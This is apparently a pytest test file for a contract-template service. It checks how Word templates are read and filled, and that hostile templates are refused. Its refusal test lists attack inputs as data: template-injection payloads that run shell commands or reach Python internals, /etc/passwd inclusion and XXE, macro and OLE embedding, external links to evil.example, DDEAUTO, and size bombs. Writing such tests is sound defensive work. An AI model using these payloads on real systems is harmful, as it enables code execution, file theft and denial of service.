"""Word files of templates: what they may say, what is refused, how they are filled. No database is needed."""

import pytest

from addons.contracts.queries.fields import FIELDS, LISTS, sample_values
from addons.contracts.services.comparing import compare_texts
from addons.contracts.services.word import LARGEST_PART, fill_template, read_template, text_of
from app.errors import ValidationError
from tests.addons.contracts.papers import changed, word

RELATIONS = "word/_rels/document.xml.rels"
LINK = (
    b'<Relationship Id="x9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s"'
    b' Target="%s" TargetMode="External"/></Relationships>'
)


def read(content):
    return read_template(content, fields=FIELDS.keys(), lists=LISTS)


def linked(kind, target):
    return changed(word(), RELATIONS, old=b"</Relationships>", new=LINK % (kind, target))


@pytest.mark.rule("P:CON-02", "P:CON-03")
def test_a_template_says_which_fields_it_names_and_which_must_be_filled():
    found = read(word())
    assert found.placeholders[:4] == ["seller", "buyer", "others", "subject"]
    assert "delivery_date" in found.required
    assert not {"others", "plan"} & set(found.required)
    assert "甲方：{{ seller }}" in found.text


def test_it_is_filled_and_what_is_filled_in_is_text_only():
    values = {**sample_values(), "buyer": "赵<立>&新 {{ seller }}\x07", "breach_terms": "第一行\n第二行"}
    text = text_of(fill_template(word(header="合同 {{ subject }}"), values))
    assert "乙方：赵<立>&新 {{ seller }}（另有共同买方）" in text
    assert "总价 805,500.00 元（捌拾万伍仟伍佰元整）" in text
    assert "定金 20,000.00 2026-03-05；房款 785,500.00 2026-04-05；" in text
    assert "第二行" in text.splitlines()
    assert text.startswith("合同 8 幢 301 室")


@pytest.mark.rule("P:CON-02")
@pytest.mark.parametrize(
    ("content", "code", "told"),
    [
        (word("{{ price_of_gold }}"), "template.field", "price_of_gold"),
        (word("{% for row in plan %}{{ row.colour }}{% endfor %}"), "template.field", "row.colour"),
        (word(header="{{ nobody }}"), "template.field", "nobody"),
        (word(title="{{ nobody }}"), "template.field", "nobody"),
        (word("{{ buyer }}", "{{ amount"), "template.syntax", "{{ amount"),
        (word("{{ buyer }} {{ unit price }}", "Cash"), "template.syntax", "{{ unit price }}"),
        (word("{{ buyer }} {% if others"), "template.syntax", "{% if others"),
        (word("{% if others %}{{ buyer }}"), "template.syntax", None),
        (word("{{ amount.__class__.__mro__ }}"), "template.field", "….__mro__"),
        (word("{{ cycler.__init__.__globals__.os.popen('id').read() }}"), "template.command", None),
        (word("{{ amount|attr('__class__') }}"), "template.command", None),
        (word("{{ amount['__class__'] }}"), "template.command", None),
        (word("{{ range(999999999)|list }}"), "template.command", None),
        (word("{{ 'x' * 999999999 }}"), "template.command", None),
        (word("{% set amount = 1 %}"), "template.command", None),
        (word("{% include '/etc/passwd' %}"), "template.command", None),
        (word("{% for a in plan %}{% for b in plan %}x{% endfor %}{% endfor %}"), "template.loop", None),
        (word("{% for a in amount %}x{% endfor %}"), "template.loop", None),
        (b"PK\x03\x04 nothing else", "template.word", None),
        (b"<html>", "template.word", None),
        (changed(word(), "word/vbaProject.bin", b"macro"), "template.macro", None),
        (changed(word(), "[Content_Types].xml", old=b"document.main+xml", new=b"macroEnabled.main+xml"),
         "template.macro", None),
        (changed(word(), "word/embeddings/oleObject1.bin", b"x"), "template.object", None),
        (linked(b"attachedTemplate", b"https://evil.example/t.dotm"), "template.external", None),
        (linked(b"image", b"\\\\evil.example\\share\\a.png"), "template.external", None),
        (linked(b"hyperlink", b"file:///etc/passwd"), "template.external", None),
        (changed(word("x"), "word/document.xml", old=b"<w:t>x</w:t>", new=b"<w:instrText>DDEAUTO a</w:instrText>"),
         "template.external", None),
        (changed(word(), "word/extra.xml", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
         "template.word", None),
        (changed(word(), "word/bomb.xml", b"<a>" + b" " * LARGEST_PART + b"</a>"), "template.size", None),
        (b"PK" + b"0" * 6 * 2**20, "template.size", None),
    ],
)  # fmt: skip
def test_a_hostile_or_mistaken_template_is_refused_and_says_why(content, code, told):
    with pytest.raises(ValidationError) as caught:
        read(content)
    assert (caught.value.code, caught.value.field) == (code, "file")
    assert told is None or caught.value.data["name"] == told


def test_a_link_to_a_web_page_is_no_harm():
    assert read(linked(b"hyperlink", b"https://example.com/")).placeholders


def test_two_texts_side_by_side():
    pairs = compare_texts("合同\n价款：500,000.00 元\n末行", "合同\n价款：485,000.00 元\n新的一条\n末行")
    assert [pair.is_same for pair in pairs] == [True, False, False, True]
    assert "".join(text for text, differs in pairs[1].left if differs) == "00"
    assert "".join(text for text, differs in pairs[1].right if differs) == "48"
    assert "".join(text for text, _differs in pairs[1].right) == "价款：485,000.00 元"
    assert pairs[2].left is None
